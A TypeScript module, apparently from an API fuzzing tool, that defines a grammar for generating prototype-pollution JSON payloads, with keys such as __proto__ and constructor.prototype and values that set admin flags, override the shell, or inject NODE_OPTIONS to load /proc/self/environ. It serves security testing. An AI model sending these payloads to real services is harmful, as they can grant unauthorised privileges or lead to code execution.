import { definePayload } from '../world/payloads.ts'

export default definePayload({
  id: 'prototype-pollution',
  title: 'keys that change every object of the program',
  owasp: ['API8:2023'],
  inputs: ['json'],
  rules: {
    start: [
      '{"__proto__":‹value›}',
      '{"constructor":{"prototype":‹value›}}',
      '{"name":"‹name›","__proto__":‹value›}',
      '{"‹name›":{"__proto__":‹value›}}',
      '{"__proto__.‹name›":"‹hex›"}',
      '{"constructor.prototype.‹name›":‹n›}',
      '{"‹name›":{"constructor":{"prototype":‹value›}}}',
      '{"__proto__":{"__proto__":‹value›}}',
    ],
    value: [
      '{"‹flag›":true}',
      '{"‹flag›":‹n›}',
      '{"shell":"/bin/sh","env":{"‹name›":"‹hex›"}}',
      '{"roles":["admin"]}',
      '{"toString":"‹hex›"}',
      '{"status":510}',
      '{"NODE_OPTIONS":"--require /proc/self/environ"}',
    ],
    flag: ['admin', 'isAdmin', 'polluted', 'authorized', 'debug'],
  },
})
